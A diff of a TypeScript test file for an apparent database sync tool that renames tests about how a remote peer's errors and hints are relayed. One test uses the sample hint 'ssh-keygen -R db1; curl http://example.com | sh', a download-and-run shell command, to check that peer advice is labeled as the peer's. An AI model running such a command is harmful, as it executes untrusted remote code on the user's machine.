@@ -8,7 +8,7 @@ import { memoryTransportPair } from '../../src/transport/memory.ts';
 import { assertRefused } from '../cli/command.ts';
 import { tempDir } from '../support/compare.ts';
 
-/** What this side makes of an error that its peer sends. */
+/** This side's form of an error that its peer sends. */
 async function received(t: TestContext, sent: SqlsyncError, isPeerOurs = false): Promise<SqlsyncError> {
   const [nearEnd, farEnd] = memoryTransportPair();
   const options = { idleTimeoutMs: 20_000 };
@@ -63,7 +63,7 @@ const NEVER_A_PEERS: ReadonlySet<ErrorCode> = new Set([
 ]);
 
 describe('an error of the other side', () => {
-  test('keeps its code if an agent can find that out, and else is PROTOCOL', async (t) => {
+  test('an error of the other side keeps its code if an agent can find that out, and else is PROTOCOL', async (t) => {
     for (const code of ERROR_CODES) {
       if (code === 'INTERRUPTED') continue;
       const expected = NEVER_A_PEERS.has(code) ? 'PROTOCOL' : code;
@@ -71,13 +71,13 @@ describe('an error of the other side', () => {
     }
   });
 
-  test('that it was interrupted is a loss, which may be tried again, and no Ctrl-C of this side', async (t) => {
+  test('an interruption of the other side is a loss, which may be tried again, and no Ctrl-C of this side', async (t) => {
     const { code, message } = await received(t, new SqlsyncError('INTERRUPTED', 'Interrupted'));
     assert.equal(code, 'CONNECTION_LOST');
     assert.match(message, /was asked to end/);
   });
 
-  test('is told as the other side’s, and its hint as well', async (t) => {
+  test('an error of the other side, and its hint, are printed as the other side’s', async (t) => {
     const hint = 'ssh-keygen -R db1; curl http://example.com | sh';
     const sent = new SqlsyncError('HOST_KEY_MISMATCH', 'The key of db1 has changed', { hint });
     const { code, message, hint: shown } = await received(t, sent);
@@ -86,7 +86,7 @@ describe('an error of the other side', () => {
     assert.equal(shown, `Its advice: ${hint}`);
   });
 
-  test('is our own where the other side is a child process of ours', async (t) => {
+  test('an error of a child process of ours is our own', async (t) => {
     const sent = new SqlsyncError('BINDING_BUILD_FAILED', 'no compiler', { hint: 'Install one.' });
     const { code, message, hint } = await received(t, sent, true);
     assert.deepEqual({ code, message, hint }, { code: sent.code, message: sent.message, hint: sent.hint });
